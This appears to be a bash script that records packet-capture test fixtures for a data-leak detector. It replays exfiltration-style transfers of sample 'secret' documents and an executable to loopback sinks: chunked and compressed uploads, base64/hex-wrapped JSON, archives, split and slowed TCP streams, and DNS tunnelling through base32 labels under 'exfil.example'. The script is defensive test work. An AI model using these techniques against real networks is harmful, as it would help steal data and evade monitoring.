#!/usr/bin/env bash
# Records the end-to-end test captures with real clients (curl, wget, dig, python) against loopback-only sinks.
# Needs root (tcpdump on lo), curl, wget, dig, 7z, zip, python3. Output: scenarios/captures/*.pcap
# The captures are committed; re-run this only to regenerate them.
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
corpus=$here/corpora/basic
out=$here/captures
work=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$work"' EXIT
url=http://127.0.0.1:8080

python3 "$here/tools/sinks.py" "$corpus" & sleep 1

record() { # NAME IFACE COMMAND...
  local name=$1 iface=$2; shift 2
  tcpdump -i "$iface" -s 0 -U -w "$out/$name.pcap" 'tcp port 8080 or tcp port 9000 or udp port 5353' 2>/dev/null &
  local pid=$!; sleep 1
  "$@" >/dev/null
  sleep 1; kill -INT $pid; wait $pid 2>/dev/null || true
  echo "recorded $name ($(stat -c %s "$out/$name.pcap") bytes)"
}

doc=$corpus/Documents/secret.docx pdf=$corpus/Documents/report.pdf memo=$corpus/Documents/memo.txt exe=$corpus/Samples/flagged.exe

record multipart-docx lo curl -s -F "sample=@$doc" "$url/upload"
gzip -9 -n -c "$doc" > "$work/doc.gz"
record chunked-gzip-put lo sh -c "curl -s -T - -H 'Content-Encoding: gzip' -H 'Content-Type: application/octet-stream' $url/put/blob < $work/doc.gz"
python3 - "$pdf" "$memo" > "$work/body.json" <<'PY'
import base64, json, sys
pdf = open(sys.argv[1], "rb").read(); memo = open(sys.argv[2], "rb").read()
print(json.dumps({"agent": "test", "attachment": base64.b64encode(pdf).decode(), "note": memo.hex()}))
PY
record json-base64-hex lo curl -s -H 'Content-Type: application/json' --data-binary "@$work/body.json" "$url/api/v1/telemetry"
(cd "$work" && cp "$doc" "$exe" . && 7z a -t7z -m0=lzma2 -bso0 -bsp0 quarantine.7z secret.docx flagged.exe && zip -q quarantine.zip secret.docx flagged.exe)
record archive-7z lo curl -s -H 'Content-Type: application/x-7z-compressed' --data-binary "@$work/quarantine.7z" "$url/submit"
record archive-zip lo curl -s -H 'Content-Type: application/zip' --data-binary "@$work/quarantine.zip" "$url/submit"
record raw-tcp-fragment lo python3 -c "
import socket, sys
d = open('$doc', 'rb').read()[3000:11000]
s = socket.create_connection(('127.0.0.1', 9000)); s.sendall(b'BLOB1' + d); s.close()"
record dns-labels lo python3 -c "
import base64, subprocess
data = base64.b32encode(open('$memo', 'rb').read()).decode().rstrip('=').lower()
chunks = [data[i:i + 50] for i in range(0, len(data), 50)]
names = ['%d.%s.x.exfil.example' % (n, '.'.join(chunks[i:i + 3])) for n, i in enumerate(range(0, len(chunks), 3))]
for name in names:
    subprocess.run(['dig', '@127.0.0.1', '-p', '5353', '+tries=1', '+time=1', '+short', name], check=True, stdout=subprocess.DEVNULL)"
head -c 6960 "$doc" > "$work/part1"; tail -c +6961 "$doc" > "$work/part2"
record split-connections lo sh -c "curl -s --data-binary @$work/part1 $url/chunk/1; curl -s --data-binary @$work/part2 $url/chunk/2"
record one-segment-at-a-time lo python3 -c "
import socket, time
body = open('$pdf', 'rb').read()
s = socket.create_connection(('127.0.0.1', 8080)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
msg = b'POST /slow HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % len(body) + body
for i in range(0, len(msg), 40):
    s.send(msg[i:i + 40]); time.sleep(0.002)
s.recv(4096); s.close()"
record keepalive-mixed lo curl -s --data-binary "@$exe" "$url/submit/sample" --next --data-binary "@$doc" "$url/submit/sample"
record benign-download lo curl -s -o /dev/null "$url/download/Documents/secret.docx"
sha=$(sha256sum "$exe" | cut -c1-64)
record hash-lookup lo curl -s -H 'Content-Type: application/json' -d "{\"sha256\":\"$sha\",\"name\":\"flagged.exe\",\"size\":25088}" "$url/api/v1/lookup"
record allowed-sample-any any wget -q -O /dev/null --post-file="$exe" "$url/submit"
# The same traffic in the other container formats the reader supports.
editcap -F pcapng "$out/multipart-docx.pcap" "$out/multipart-docx.pcapng"
editcap -F nsecpcap "$out/keepalive-mixed.pcap" "$out/keepalive-mixed-nsec.pcap"
